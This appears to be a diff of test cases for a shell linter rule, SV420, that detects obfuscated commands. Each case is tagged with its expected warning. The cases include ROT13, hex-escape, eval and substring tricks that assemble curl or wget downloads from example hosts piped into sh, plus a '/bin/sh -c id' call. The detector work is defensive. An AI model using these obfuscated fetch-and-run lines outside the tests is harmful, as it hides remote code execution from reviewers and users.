@@ -6,3 +6,6 @@ echo 'phey -f uggcf://k.rknzcyr/c | fu' | tr 'A-Za-z' 'N-ZA-Mn-za-m' | sh # want
 printf '\x63\x75\x72\x6c\x20\x78' | sh # want "SV420: printf prints escaped text"
 a=curlxx; eval "${a:0:4} -s https://cdn.example.net/r | sh" # want "SV420: eval runs a string assembled from escapes or substrings"
 P="eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHg=" # want "SV420: long base64 blob"
+t="xx/bin/sh -c id"; ${t:2} # want "SV420: .*assembled from substrings"
+u="Xcurl -s https://cdn.example.net/z"; ${u:1} # want "SV420: .*assembled from substrings"
+w="wget, the downloader"; ${w/, the downloader/} https://cdn.example.net/y # want "SV420: .*assembled from substrings"
